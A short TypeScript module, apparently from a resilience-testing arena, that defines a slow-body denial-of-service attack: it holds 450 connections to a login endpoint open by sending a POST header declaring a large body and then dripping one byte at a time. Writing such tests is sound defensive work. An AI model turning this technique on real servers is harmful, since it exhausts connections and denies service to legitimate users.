import type { Attack } from "../../arena/attack.ts";
import { holdConnections } from "../../arena/hold-connections.ts";

const CONNECTIONS = 450;
const HEAD =
  "POST /api/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 16000\r\n\r\n{";

export const slowBodies: Attack = {
  name: "450 logins that send a byte a second",
  async begin(arena) {
    return holdConnections(arena, {
      connections: CONNECTIONS,
      begin: (socket) => socket.write(HEAD),
      drip: (socket) => socket.write(" "),
    });
  },
};
